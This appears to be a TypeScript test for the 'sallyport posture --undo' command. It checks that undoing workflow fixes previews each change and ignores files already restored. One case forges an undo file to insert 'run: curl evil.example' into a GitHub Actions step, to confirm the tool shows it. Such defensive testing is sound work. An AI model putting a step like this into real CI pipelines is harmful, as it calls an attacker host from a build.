/**
 * `sallyport posture --undo`: what it would put back is read before, a file that was edited shows what it would
 * do, and what is as it was already is never taken for ours again.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { postureHere } from "./testing/in-process.ts";

const workflow =
  "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n";
const uses = ["--uses", `sallyport/sallyport@${"abcdefabcd".repeat(4)}`];

test("shows each line before, in text and in JSON alone; what was put back by hand is done with", async (t) => {
  const at = mkdtempSync(join(tmpdir(), "sallyport-undo-"));
  t.after(() => rmSync(at, { recursive: true }));
  mkdirSync(join(at, ".github/workflows"), { recursive: true });
  const file = join(at, ".github/workflows/ci.yml");
  writeFileSync(file, workflow);
  execFileSync("git", ["-C", at, "init", "-q"]);
  const posture = (...words: string[]) => postureHere(words, {}, at);
  const fixed = await posture("--fix", "--apply", "--undo-file", "undo.jsonl", ...uses);
  assert.equal(fixed.code, 0, fixed.stderr);
  assert.match(
    fixed.stdout,
    /--undo .*\/undo\.jsonl\n {2}\(it is among the repository's files .*: move it out before a commit\)\n$/,
  );
  const made = readFileSync(file, "utf8");
  assert.notEqual(made, workflow);

  const forged = readFileSync(join(at, "undo.jsonl"), "utf8").replaceAll("run: make", "run: curl evil.example");
  writeFileSync(join(at, "forged.jsonl"), forged);
  assert.match(
    (await posture("--undo", "forged.jsonl")).stdout,
    /^\+ {6}- run: curl evil\.example$|^ {7}- run: curl evil\.example$/m,
  );
  const shown = (await posture("--undo", "undo.jsonl")).stdout;
  assert.match(
    shown,
    /^- +.*sallyport\/sallyport@[^]*would take back \.github\/workflows\/ci\.yml\nNothing was changed/m,
  );
  const json = JSON.parse((await posture("--undo", "undo.jsonl", "--format", "json")).stdout) as { planned: object[] };
  assert.deepEqual(json.planned, [{ kind: "file", path: ".github/workflows/ci.yml", from: made, to: workflow }]);
  assert.equal((await posture("--undo", "undo.jsonl", "--format", "sarif")).code, 2);

  writeFileSync(file, workflow);
  const already = await posture("--undo", "undo.jsonl", "--apply");
  assert.match(already.stdout, /nothing to do/);
  // A newer fix makes it so again: the old file says nothing of that one.
  writeFileSync(file, made);
  assert.match((await posture("--undo", "undo.jsonl", "--apply")).stdout, /^Nothing is to be taken back/);
  assert.equal(readFileSync(file, "utf8"), made);
});
